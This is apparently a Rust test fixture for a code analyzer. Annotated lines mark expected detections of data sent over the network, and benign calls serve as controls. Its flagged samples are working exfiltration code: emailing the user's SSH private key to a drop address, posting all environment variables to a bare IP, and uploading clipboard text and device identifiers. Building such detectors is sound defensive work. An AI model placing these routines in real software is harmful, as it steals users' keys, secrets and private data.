//! Less common sinks: e-mail (lettre), libcurl, hyper and isahc.

use lettre::message::{Attachment, Message, MultiPart, SinglePart, header::ContentType};
use lettre::{SmtpTransport, Transport};

pub fn mail_the_keys() -> Result<(), Box<dyn std::error::Error>> {
    let key = std::fs::read(dirs::home_dir().unwrap().join(".ssh/id_rsa"))?;
    let attachment = Attachment::new("k.txt".into()).body(key, ContentType::TEXT_PLAIN);
    let email = Message::builder()
        .from("bot@mailer.example.net".parse()?)
        .to("drop@mailer.example.net".parse()?)
        .subject("report")
        .multipart(MultiPart::mixed().singlepart(attachment))?; //~ data-upload/key-file-to-network
    SmtpTransport::relay("smtp.mailer.example.net")?.build().send(&email)?;
    Ok(())
}

pub fn mail_hostname() -> Result<(), Box<dyn std::error::Error>> {
    let host = whoami::hostname();
    let email = Message::builder()
        .from("bot@mailer.example.net".parse()?)
        .to("ops@mailer.example.net".parse()?)
        .subject("new install")
        .body(format!("installed on {host}"))?; //~ data-upload/device-id-to-network
    SmtpTransport::relay("smtp.mailer.example.net")?.build().send(&email)?;
    Ok(())
}

pub fn mail_release_notes(version: &str) -> Result<(), Box<dyn std::error::Error>> {
    let email = Message::builder()
        .from("releases@example.com".parse()?)
        .to("team@example.com".parse()?)
        .subject(format!("released {version}"))
        .singlepart(SinglePart::plain(format!("version {version} is out")))?;
    SmtpTransport::relay("smtp.example.com")?.build().send(&email)?;
    Ok(())
}

pub fn curl_post() -> Result<(), curl::Error> {
    let mut easy = curl::easy::Easy::new();
    easy.url("http://194.26.29.113/c")?; //~ data-upload/suspicious-destination
    let dump: Vec<String> = std::env::vars().map(|(k, v)| k + "=" + &v).collect();
    easy.post_fields_copy(dump.join("&").as_bytes())?; //~ data-upload/env-vars-to-network
    easy.perform()
}

pub fn curl_download() -> Result<(), curl::Error> {
    let mut easy = curl::easy::Easy::new();
    easy.url("https://static.example.com/update.json")?;
    easy.perform()
}

pub async fn hyper_request(client: &hyper_util::client::legacy::Client<Connector, Full<Bytes>>) {
    let clip = arboard::Clipboard::new().unwrap().get_text().unwrap_or_default();
    let req = hyper::Request::builder()
        .method("POST")
        .uri("https://clips.example-sync.net/in")
        .header("content-type", "text/plain")
        .body(Full::new(Bytes::from(clip))) //~ data-upload/clipboard-to-network
        .unwrap();
    let _ = client.request(req).await;
}

pub async fn hyper_health(client: &hyper_util::client::legacy::Client<Connector, Full<Bytes>>) {
    let req = hyper::Request::builder()
        .uri("https://status.example.com/health")
        .body(Full::new(Bytes::from_static(b"ping")))
        .unwrap();
    let _ = client.request(req).await;
}

pub fn isahc_post() {
    let id = machine_uid::get().unwrap_or_default();
    let _ = isahc::post("https://licensing.example-vendor.com/activate", id); //~ data-upload/device-id-to-network
}

pub async fn surf_post() {
    let user = whoami::username();
    let _ = surf::post("https://hooks.slack.com/services/T000/B000/XXXX") //~ data-upload/suspicious-destination
        .body_json(&serde_json::json!({ "text": format!("{user} installed") })) //~ data-upload/device-id-to-network
        .await;
}
